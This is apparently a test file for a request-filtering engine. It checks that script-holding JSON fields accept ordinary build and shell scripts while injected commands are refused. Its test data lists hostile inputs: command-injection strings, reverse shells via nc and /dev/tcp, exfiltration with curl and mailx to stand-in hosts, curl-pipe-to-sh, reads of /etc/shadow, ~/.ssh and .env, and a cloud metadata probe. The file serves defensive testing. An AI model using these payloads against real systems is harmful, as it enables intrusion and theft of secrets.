// Fields that hold scripts by what their API is for: a whole script passes at sensitivity 1, is recorded, and is refused
// from level 2 on. What breaks out of something is refused there as everywhere.

import { describe, expect, test } from 'vitest'

import { bodyOf } from '../../shared/exchange/body.ts'
import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()
const strict = coreEngine({ sensitivity: 2 })

const FIELDS = [
  'body.spec.containers[0].args[1]',
  'body.spec.template.containers[2].command[2]',
  'body.jobs.build.steps[3].run',
  'body.templates[0].script.source',
  'body.rules[0].rendered_command',
  'body.scripts.build',
]

const SCRIPTS = [
  'ls -la /var/log && cat /etc/hosts',
  'set -e\napt-get update && apt-get install -y curl\ncurl -fsS https://example.com/x -o /tmp/x',
  '# comment\nfor f in *.txt; do cat "$f" | sort; done',
  'VERSION=$(cat VERSION); echo "v$VERSION" >> out.txt',
  'if [ -f /tmp/x ]; then rm /tmp/x; fi',
]

/** No script by itself: something before it is closed or gone on behind, or a connection is opened. */
const BREAKS = [
  "x'; cat /etc/passwd #",
  '127.0.0.1; cat /etc/passwd',
  '"; whoami; echo "',
  '$(cat /etc/passwd)',
  '| nc 10.0.0.1 4444 -e /bin/sh',
  'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
  "cat x' ; id",
  'true && cat /etc/hosts | curl -d @- http://e.example',
  'id; whoami',
  'start; cat /etc/shadow',
  'cat -n /etc/passwd && ls -la',
  'ls -la; nc -e /bin/sh e.example 4444',
  'ls -la | nc e.example 4444',
  'curl -s http://169.254.169.254/latest/meta-data/ | tee -a x',
]

describe.each(FIELDS)('%s', (name) => {
  test.each(SCRIPTS)('may hold %j', (script) => {
    const judged = engine.text('json', 'value', name, script)
    expect(judged.refused).toBe(false)
  })

  test.each(BREAKS)('may not hold %j', (text) => {
    expect(engine.text('json', 'value', name, text).refused).toBe(true)
  })
})

describe('steps of a build in a package', () => {
  test.each([
    'tsc && tsc -p tsconfig.esm.json && node dist/x.js',
    'node ../../tools/clean.ts dist',
    'rm -rf build && rollup -c',
    'lint-all && node test/all.js | tap-pretty',
    'cover _all && cat ./coverage/lcov.info | covered',
    'compile src -d lib; node tools/link.js && node tools/sign.js',
  ])('may be %j', (script) => {
    expect(engine.text('json', 'value', 'body.scripts.build', script).refused).toBe(false)
    expect(engine.text('json', 'value', 'body.note', `x; ${script}`).refused).toBe(true)
  })
  test.each([
    'tsc && cat /etc/hosts',
    'tsc && curl -s https://e.example/x | sh',
    'tsc && id',
    'tsc && ls -la',
    'tsc && grep -r secret .',
    'tsc && awk "BEGIN{system(x)}"',
    'tsc && cat .env',
    'tsc && node -e "x" ; whoami',
    'tsc && ls ~/.ssh',
    "x' && cat /etc/hosts && '",
    'x; id',
    'x; cat package.json',
    'x | sh',
    'x; node -e "require(1)"',
    'x; /tmp/a',
    'tsc && node a.js | nc',
    'tsc && cat a.json | mailx a@e.example',
    'tsc || node a.js | python3.11',
  ])('may not be %j', (script) => {
    expect(engine.text('json', 'value', 'body.scripts.build', script).refused).toBe(true)
  })
})

test('a script is recorded, and refused from level 2 on', () => {
  const script = 'cat /etc/hosts | grep x; ls -la /tmp'
  expect(engine.text('json', 'value', FIELDS[0] ?? '', script).hits.map((hit) => hit.rule)).toContain(
    'shell-line',
  )
  expect(strict.text('json', 'value', FIELDS[0] ?? '', script).refused).toBe(true)
})

test.each(['body.command', 'body.run', 'body.user.args', 'query.command', 'body.note', 'body.items[0].note'])(
  'a name that is not nested in a list says nothing: %s',
  (name) => {
    expect(engine.text('json', 'value', name, 'ls -la /var/log && cat /etc/hosts').refused).toBe(true)
  },
)

test('a script that passed in its own field is refused in another of the same request', () => {
  const script = 'ls -la /var/log && cat /etc/hosts'
  const text = JSON.stringify({ steps: [{ x: { run: script } }], note: script })
  const body = bodyOf(new TextEncoder().encode(text), 'application/json')
  expect(engine.body(body, text, 'application/json', false).refused).toBe(true)
})
